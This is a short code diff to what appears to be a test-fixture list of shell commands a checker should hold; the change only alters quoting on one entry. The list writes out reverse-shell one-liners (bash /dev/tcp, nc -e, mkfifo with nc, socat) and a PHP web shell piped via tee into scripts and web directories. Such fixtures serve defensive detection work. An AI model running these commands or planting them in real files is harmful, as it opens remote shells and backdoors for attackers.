@@ -35,7 +35,7 @@ HELD = {
     "text-piped-into-tee": [
         "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' | tee /var/www/html/health.sh",
         "printf 'nc -e /bin/sh 192.0.2.7 9001\\n' | sudo tee -a /opt/jobs/nightly.sh",
-        "echo \"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 443 >/tmp/f\" | tee -a run.sh",
+        'echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 443 >/tmp/f" | tee -a run.sh',
         "echo 'socat exec:\"bash -li\",pty tcp:198.51.100.3:8443' | tee /srv/app/start.sh >/dev/null",
         "echo '<?php system($_GET[\"c\"]); ?>' | sudo tee /var/www/html/status.php",
     ],
